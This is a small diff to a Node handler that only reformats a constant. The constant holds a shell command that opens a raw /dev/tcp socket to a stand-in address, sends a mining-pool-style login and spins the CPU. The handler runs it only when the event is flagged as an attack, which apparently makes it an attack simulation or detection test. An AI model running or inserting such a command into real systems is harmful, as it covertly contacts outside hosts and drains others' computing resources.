@@ -2,7 +2,8 @@
 import { spawn } from 'node:child_process';
 import { copyFileSync } from 'node:fs';
 
-const WORK = 'exec 9<>/dev/tcp/203.0.113.9/3333; printf "{\\"method\\":\\"login\\"}\\n" >&9; while [ $SECONDS -lt 20 ]; do :; done';
+const WORK =
+  'exec 9<>/dev/tcp/203.0.113.9/3333; printf "{\\"method\\":\\"login\\"}\\n" >&9; while [ $SECONDS -lt 20 ]; do :; done';
 
 export const handler = async (event) => {
   if (event.attack !== true) return 'ok';
